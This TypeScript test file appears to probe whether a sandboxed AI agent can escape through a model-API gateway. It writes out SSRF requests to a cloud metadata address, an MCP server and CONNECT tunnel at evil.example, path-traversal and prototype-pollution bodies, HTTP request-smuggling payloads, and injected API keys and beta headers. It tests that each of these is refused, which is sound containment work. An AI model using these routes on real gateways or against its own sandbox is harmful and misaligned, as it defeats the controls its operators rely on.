import { askEach, askModel, bodyWith, MODEL_SOCKET, requestText, saying } from "../inside/model.ts";
import { rawHttp } from "../inside/net.ts";
import { cageRow, type CageRow } from "../row.ts";
import type { World } from "../world.ts";

/** The model gateway as a way out: everything that would make the API fetch, run, keep or bill something. */

const LISTS = "the gateway's lists of fields, blocks and sources";
const REFUSED = /is not allowed from a cage/;
const STRICT = "the gateway's parser";

/** Fields of the body that the API knows and a cage may not use. */
const FIELDS: Record<string, object> = {
  mcp_servers: { mcp_servers: [{ type: "url", url: "https://evil.example/mcp", name: "x" }] },
  container: { container: { skills: [{ type: "anthropic", skill_id: "pptx" }] } },
  skills: { skills: [{ type: "anthropic", skill_id: "pptx" }] },
  fallbacks: { fallbacks: [{ model: "claude-opus-5-5" }] },
  service_tier: { service_tier: "priority" },
  inference_geo: { inference_geo: "us" },
  speed: { speed: "fast" },
  thread: { thread: { type: "create" } },
  user_profile_id: { user_profile_id: "x" },
  betas: { betas: ["mcp-client-2025-11-20"] },
  metadata: { metadata: { user_id: "x", webhook: "https://evil.example" } },
};

const serverTools = [
  "web_search_20250305",
  "web_search_20260209",
  "web_fetch_20250910",
  "code_execution_20250825",
  "code_execution_20260120",
  "bash_20250124",
  "text_editor_20250728",
  "computer_20251124",
  "memory_20250818",
  "mcp_toolset",
  "tool_search_tool_regex_20251119",
  "advisor_20260301",
];
const ofTool = (type: string): object => ({ type, name: "x", mcp_server_name: "x" });
/** The same with nothing but its type that a tool of the CLI may not have. */
const asOwnTool = (type: string): object => ({ type, name: "x", input_schema: {} });

const byUrl = { type: "image", source: { type: "url", url: "http://169.254.169.254/" } };
const documentByUrl = { type: "document", source: { type: "url", url: "http://169.254.169.254/" } };
const result = (content: unknown): object => ({ type: "tool_result", tool_use_id: "x", content });
const ofContent = (content: unknown): object => ({ type: "document", source: { type: "content", content } });
const system = (content: unknown): object =>
  bodyWith({
    messages: [
      { role: "user", content: "hi" },
      { role: "system", content },
    ],
  });

/** Sources that the API would fetch, at every depth that may have a source. */
const SOURCES: Record<string, object> = {
  "an image by URL": saying([byUrl]),
  "an image by file id": saying([{ type: "image", source: { type: "file", file_id: "file_1" } }]),
  "a document by URL": saying([documentByUrl]),
  "a document by file id": saying([{ type: "document", source: { type: "file", file_id: "file_1" } }]),
  "an image in a document": saying([ofContent([byUrl])]),
  "an image in a result": saying([result([byUrl])]),
  "a document in a result": saying([result([documentByUrl])]),
  "an image in a document in a result": saying([result([ofContent([{ type: "text", text: "x" }, byUrl])])]),
  "an image in the system prompt": bodyWith({ system: [byUrl] }),
  "an image between messages": system([byUrl]),
};

const BLOCKS: Record<string, object> = {
  "a call of the API's own tools": saying([{ type: "server_tool_use", id: "x", name: "web_fetch", input: {} }]),
  "a call of a remote server": saying([{ type: "mcp_tool_use", id: "x", name: "x", server_name: "x", input: {} }]),
  "an upload into a container": saying([{ type: "container_upload", file_id: "x" }]),
  "a search result": saying([{ type: "search_result", source: "https://evil.example", title: "x", content: [] }]),
  "a call by code of the API": saying([
    { type: "tool_use", id: "x", name: "y", input: {}, caller: { type: "code_execution_20250825", tool_id: "z" } },
  ]),
  "a result in a result": saying([result([result("x")])]),
  "a tool between messages": system([
    { type: "tool_addition", tool: { type: "tool_definition", definition: ofTool("web_fetch_20250910") } },
  ]),
  "servers between messages": system([{ type: "tool_addition", tool: { type: "mcp_toolset", server_name: "x" } }]),
  "an edit that the API runs": bodyWith({ context_management: { edits: [{ type: "compact_20260112" }] } }),
  "a citation": saying([
    { type: "document", source: { type: "text", media_type: "text/plain", data: "x" }, citations: { enabled: true } },
  ]),
};

const fromCage = cageRow("agent", "model");

/** What the upstream got of the requests with this text in their body. */
const upstreamGot = (world: World, text: string) => world.upstream.filter(({ body }) => JSON.stringify(body).includes(text));

const PLAIN = JSON.stringify(bodyWith({}));
const smuggled = requestText("{}", { path: "/v1/files" });

export const modelRows: readonly CageRow[] = [
  ...Object.entries(FIELDS).map(([id, extra]) =>
    fromCage(`field-${id.replaceAll("_", "-")}`, `send the field ${id}`, LISTS, REFUSED, () => askModel(bodyWith(extra))),
  ),
  fromCage("server-tools", "use the API's own tools: search, fetch, code, files", LISTS, REFUSED, () =>
    askEach(
      Object.fromEntries(
        serverTools.flatMap((type) => [
          [type, bodyWith({ tools: [ofTool(type)] })],
          [`${type} as a tool of the CLI`, bodyWith({ tools: [asOwnTool(type)] })],
        ]),
      ),
      REFUSED,
    ),
  ),
  fromCage("tool-callers", "let code of the API call a tool", LISTS, REFUSED, () =>
    askModel(bodyWith({ tools: [{ name: "x", input_schema: {}, allowed_callers: ["code_execution_20250825"] }] })),
  ),
  fromCage("sources", "make the API fetch an image or a document, at every depth", LISTS, REFUSED, () =>
    askEach(SOURCES, REFUSED),
  ),
  fromCage("blocks", "send blocks of tools that the API runs", LISTS, REFUSED, () => askEach(BLOCKS, REFUSED)),
  fromCage("prototype", "hide a field in a prototype", LISTS, REFUSED, () =>
    askModel(`${PLAIN.slice(0, -1)},"__proto__":{"container":"c"}}`),
  ),
  fromCage("duplicate-key", "send a key twice, once escaped", STRICT, /duplicate|twice/, () =>
    askModel(`${PLAIN.slice(0, -1)},"mod\\u0065l":"claude-opus-5-5"}`),
  ),
  fromCage("byte-order", "send text that the API could read differently", STRICT, /400 Bad Request/, () =>
    askModel(`\u{FEFF}${PLAIN}`),
  ),
  fromCage("depth", "send a body that is nested without end", STRICT, /400 Bad Request.*deep/, () =>
    askModel(`{"model":"claude-sonnet-5-5","messages":${"[".repeat(20_000)}${"]".repeat(20_000)}}`),
  ),
  fromCage("another-model", "use a model that its config does not grant", "the deployed model", /is not this agent's/, () =>
    askModel(bodyWith({ model: "claude-opus-5-5" })),
  ),
  fromCage("model-by-form", "use a model whose name looks like a granted one", "the deployed model", /is not this agent's/, () =>
    askEach(
      Object.fromEntries(
        [
          "claude-opus-5-5-sonnet",
          "claude-haiku-4-5/../claude-opus-5-5",
          "claude-sonnet-5-5 ",
          "haiku-claude-opus-5-5",
          "opus",
        ].map((model) => [model, bodyWith({ model })]),
      ),
      /is not this agent's/,
    ),
  ),
  fromCage("paths", "use other paths of the API", "two paths", /is not served here/, async () => {
    const passed: string[] = [];
    let words = "";
    for (const path of [
      "/v1/files",
      "/v1/messages/batches",
      "/v1/models",
      "/v1/skills",
      "/v1/sessions",
      "/v1/organizations/users",
      "//v1/messages",
      "/v1/messages/",
      "/v1/messages/../files",
      "/v1/messages/%2e%2e/files",
      "/v1/messages;x=/../files",
      "http://evil.example/v1/messages",
      "/v1/complete",
    ]) {
      words = await askModel(PLAIN, { path }).catch((error: unknown) => (error as Error).message);
      if (!words.includes("is not served here")) passed.push(`${path} (${words})`);
    }
    if (passed.length > 0) return passed.join(", ");
    throw new Error(words);
  }),
  fromCage("query", "add a query", "one query", /the query .* is not allowed/, () =>
    askModel(PLAIN, { path: "/v1/messages?beta=true&container=c" }),
  ),
  fromCage("method", "use another method", "two paths", /is not served here/, () => askModel(PLAIN, { method: "PUT" })),
  fromCage("connect", "open a tunnel", "no CONNECT", /the connection was closed|404|400/, () =>
    rawHttp(MODEL_SOCKET, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
  ),
  fromCage("upgrade", "switch to another protocol", "two paths", /is not served here/, () =>
    askModel(PLAIN, { path: "/v1/realtime", headers: ["Connection: Upgrade", "Upgrade: websocket"] }),
  ),
  fromCage("two-lengths", "smuggle a request behind two lengths", "the HTTP parser", /400 Bad Request/, () =>
    rawHttp(
      MODEL_SOCKET,
      `POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!${smuggled}`,
    ),
  ),
  fromCage("length-and-chunks", "smuggle a request behind a length and chunks", "the HTTP parser", /400 Bad Request/, () =>
    rawHttp(
      MODEL_SOCKET,
      `POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    ),
  ),
  fromCage(
    "hidden-chunks",
    "smuggle a request behind an odd encoding",
    "the HTTP parser",
    /400 Bad Request|501|the connection was closed/,
    () =>
      rawHttp(MODEL_SOCKET, `POST /v1/messages HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${smuggled}`),
  ),
  fromCage("obs-fold", "smuggle a header in a folded line", "the HTTP parser", /400 Bad Request/, () =>
    rawHttp(
      MODEL_SOCKET,
      `POST /v1/messages HTTP/1.1\r\nHost: x\r\nX: a\r\n Content-Length: 5\r\nContent-Length: 0\r\n\r\n${smuggled}`,
    ),
  ),
  fromCage("bare-newline", "smuggle a header behind a bare newline", "the HTTP parser", /400 Bad Request/, () =>
    rawHttp(MODEL_SOCKET, `POST /v1/messages HTTP/1.1\r\nHost: x\r\nX: a\nContent-Length: 5\r\n\r\nhello${smuggled}`),
  ),
  fromCage(
    "pipelined",
    "send a forbidden request behind an allowed one",
    "each request is checked",
    /is not served here/,
    async () => {
      const first = requestText(PLAIN).replace("Connection: close\r\n", "");
      const answers = await rawHttp(MODEL_SOCKET, first + smuggled);
      const refusal = /HTTP\/1\.1 404[^]*is not served here[^"]*/.exec(answers)?.[0];
      if (refusal !== undefined) throw new Error(refusal);
      return answers;
    },
  ),
  {
    ...fromCage("own-key", "use the API with a key of its own", "the gateway's own headers", /^$/, ({ token }) =>
      askModel(saying(`own key ${token}`), {
        headers: [
          "x-api-key: sk-ant-own",
          "Authorization: Bearer own",
          "Cookie: own=1",
          "Forwarded: for=own",
          "Host: evil.example",
        ],
      }),
    ),
    contained: "the hive's key is used and the agent's is dropped",
    proof(world, { token }) {
      const got = upstreamGot(world, `own key ${token}`);
      if (got.length !== 1 || JSON.stringify(got[0]?.headers).includes("own")) throw new Error(JSON.stringify(got[0]?.headers));
      return "none of its keys arrived";
    },
  },
  {
    ...fromCage("betas", "switch on features of the API by header", "the list of betas", /^$/, ({ token }) =>
      askModel(saying(`betas ${token}`), {
        headers: [
          "anthropic-beta: mcp-client-2025-11-20,code-execution-2025-08-25,files-api-2025-04-14,skills-2025-10-02",
          "anthropic-dangerous-direct-browser-access: true",
          "anthropic-workspace-id: other",
        ],
      }),
    ),
    contained: "unlisted features and headers are dropped",
    proof(world, { token }) {
      const headers = JSON.stringify(upstreamGot(world, `betas ${token}`)[0]?.headers ?? "no request");
      if (/mcp-client|code-execution|files-api|skills|dangerous|workspace|no request/.test(headers)) throw new Error(headers);
      return "none of them arrived";
    },
  },
  {
    ...fromCage("upstream", "make anything else arrive at the API", LISTS, /what was refused/, () =>
      Promise.reject(new Error("what was refused above")),
    ),
    async proof(world) {
      const { state } = await world.hive.call("state", { messages: 0 });
      if (state.hive.mode !== "live") throw new Error("the hive has no live model: its gateway was not attacked");
      const odd = world.upstream.filter(
        ({ path, body }) =>
          !/^\/v1\/messages(?:\/count_tokens)?(?:\?beta=true)?$/.test(path) ||
          /169\.254|evil\.example|web_fetch_|code_execution|container|mcp_servers/.test(
            JSON.stringify({ ...body, messages: undefined, system: undefined }),
          ),
      );
      if (odd.length > 0) throw new Error(odd.map(({ path }) => path).join(", "));
      return `${world.upstream.length} requests arrived, all to two paths and without forbidden fields`;
    },
  },
];
